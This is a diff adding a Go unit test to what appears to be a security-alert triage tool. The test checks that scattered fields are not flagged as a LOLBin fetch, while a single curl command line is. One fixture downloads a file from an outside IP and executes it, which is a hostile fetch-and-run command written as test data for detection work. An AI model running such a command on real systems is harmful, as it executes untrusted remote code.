@@ -111,6 +111,22 @@ func TestFieldAwareIOCs(t *testing.T) {
 	}
 }
 
+// TestLOLBinNeedsOneCommandLine: a downloader and an external URL in
+// different fields are no LOLBin fetch.
+func TestLOLBinNeedsOneCommandLine(t *testing.T) {
+	scattered := Alert{Source: "Wazuh", Severity: "medium", Title: "Package check", Raw: raw(map[string]any{
+		"data": map[string]any{"commandLine": "curl -s -o /dev/null http://10.0.0.5/health", "referer": "http://198.51.100.7/page"},
+	})}
+	if an := AnalyzeAlert(scattered, Context{}); slices.ContainsFunc(an.Reasons, func(r Reason) bool { return strings.Contains(r.Detail, "lolbin_fetch") }) {
+		t.Errorf("scattered words made a LOLBin fetch:\n%s", reasonLines(an.Reasons))
+	}
+	together := scattered
+	together.Raw = raw(map[string]any{"data": map[string]any{"commandLine": "curl -s -o /tmp/x http://198.51.100.7/x && /tmp/x"}})
+	if an := AnalyzeAlert(together, Context{}); an.Verdict != VerdictLikelyMalicious {
+		t.Errorf("curl fetching from outside: %s\n%s", an.Verdict, reasonLines(an.Reasons))
+	}
+}
+
 func TestLookalike(t *testing.T) {
 	own := []string{"example.com"}
 	for d, want := range map[string]string{
